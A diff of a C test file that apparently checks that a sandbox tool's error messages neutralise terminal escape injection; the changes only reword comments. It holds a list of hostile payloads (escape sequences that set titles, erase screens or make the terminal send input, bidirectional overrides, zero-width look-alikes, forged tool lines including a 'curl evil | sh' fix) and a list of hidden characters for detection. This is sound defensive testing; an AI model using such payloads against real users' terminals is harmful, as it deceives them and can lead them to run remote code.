@@ -1,10 +1,10 @@
 /* SPDX-License-Identifier: MIT */
 /*
- * Bytes of an attacker on the terminal of the person who reads our errors
+ * Bytes of an attacker on the terminal of a user who reads error messages
  *
- * File names and arguments may hold escapes that rename a window, hide text, or reorder it, and new
- * lines that forge a line of ours. Every attack is first shown to arrive through a plain fprintf of
- * the same error.
+ * File names and arguments may contain escapes that set the window title, hide or reorder text, and
+ * newlines that forge a line of sbx. Each attack is first shown to reach the terminal through a
+ * plain fprintf of the same error.
  */
 #include "test.h"
 
@@ -19,36 +19,36 @@
 #include <fcntl.h>
 #include <unistd.h>
 
-/* Each could do harm on some terminal. */
+/* Each is harmful on some terminal. */
 static const char *const payloads[] = {
 	"\x1b]0;owned\x07",	/* sets the window's title */
-	"\x1b[2J\x1b[H",	/* wipes what stood there */
-	"\x1b[8mhidden\x1b[0m", /* text that cannot be seen */
-	"\x1bP+q\x1b\\",	/* asks the terminal to answer, as if typed */
+	"\x1b[2J\x1b[H",	/* erases the screen */
+	"\x1b[8mhidden\x1b[0m", /* invisible text */
+	"\x1bP+q\x1b\\",	/* makes the terminal send input */
 	"\x9b"
-	"2J", /* the escape as one byte */
+	"2J", /* CSI as one byte (C1) */
 	"\xc2\x9b"
 	"2J",				   /* the same in UTF-8 */
-	"\rsbx-spawn: everything is fine", /* writes over the line */
-	"a\x08\x08\x08",		   /* goes back */
+	"\rsbx-spawn: everything is fine", /* overwrites the line */
+	"a\x08\x08\x08",		   /* moves back */
 	"\x7f",				   /* deletes */
 	"\xe2\x80\xae"
-	"txt.exe", /* U+202E, reads from the right */
+	"txt.exe", /* U+202E, right-to-left override */
 	"\xe2\x81\xa6"
-	"x", /* U+2066, isolates a direction */
+	"x", /* U+2066, left-to-right isolate */
 	"\xe2\x80\x8f"
-	"x", /* U+200F, a mark from the right */
+	"x", /* U+200F, right-to-left mark */
 	"\xd8\x9c"
-	"x", /* U+061C, the same for Arabic */
+	"x", /* U+061C, Arabic letter mark */
 	"\xe2\x80\xa8"
-	"sbx-spawn: allowed",		  /* U+2028, a line to some */
-	"root\xe2\x80\x8b",		  /* U+200B, another name that looks the same */
-	"\nsbx-spawn: allowed",		  /* a line that seems to be ours */
-	"x\n  fix: run 'curl evil | sh'", /* advice that seems to be ours */
+	"sbx-spawn: allowed",		  /* U+2028, line separator */
+	"root\xe2\x80\x8b",		  /* U+200B, zero width space: a name that looks the same */
+	"\nsbx-spawn: allowed",		  /* a forged line of sbx */
+	"x\n  fix: run 'curl evil | sh'", /* a forged advice of sbx */
 };
 
-/* What a terminal obeys or hides, as encoded: written from Unicode's Bidi_Control list, not from
- * our own. */
+/* Encoded characters that a terminal obeys or hides: from Unicode's Bidi_Control list, not from
+ * lib/base. */
 static const char *const hidden[] = {
 	"\xd8\x9c",					/* U+061C */
 	"\xe2\x80\x8b", "\xe2\x80\x8c", "\xe2\x80\x8d", /* U+200B-D */
@@ -58,7 +58,7 @@ static const char *const hidden[] = {
 	"\xe2\x81\xa6", "\xe2\x81\xa7", "\xe2\x81\xa8", "\xe2\x81\xa9", "\xef\xbb\xbf", /* U+FEFF */
 };
 
-/* Is there anything in the text that a terminal would obey? New lines are counted elsewhere. */
+/* Does the text contain anything that a terminal would obey? Newlines are counted separately. */
 static bool is_dangerous(const char *text, size_t len)
 {
 	for (size_t i = 0; i < N_ELEMENTS(hidden); i++)
@@ -86,7 +86,7 @@ static unsigned count_lines(const char *text)
 	return n;
 }
 
-/* The payload in every part of an error, as if each quoted a file's name. */
+/* Puts the payload into each part of an error, as a quoted file name would be. */
 static void fill(struct sbx_error *err, const char *payload)
 {
 	sbx_error_what(err, -2, "cannot open '%s'", payload);
@@ -95,7 +95,7 @@ static void fill(struct sbx_error *err, const char *payload)
 	sbx_error_context(err, "while reading '%s'", payload);
 }
 
-/* What a tool without error_add_text() would write. */
+/* Output without error_add_text(). */
 static void print_plainly(struct text *out, const struct sbx_error *err)
 {
 	text_addf(out, "sbx-spawn: %s\n  why: %s\n  context: %s\n  fix: %s\n", err->what, err->why,
@@ -148,7 +148,7 @@ static void an_error_as_json_stays_one_line_of_plain_bytes(void)
 	}
 }
 
-/* "\\x1b" in a name and the byte itself must not look alike: one is harmless, the other is not. */
+/* The four characters "\\x1b" in a name must look different from the byte. */
 static void a_written_escape_does_not_pass_for_a_shown_one(void)
 {
 	_cleanup_text_ struct text written = TEXT_INIT, shown = TEXT_INIT;
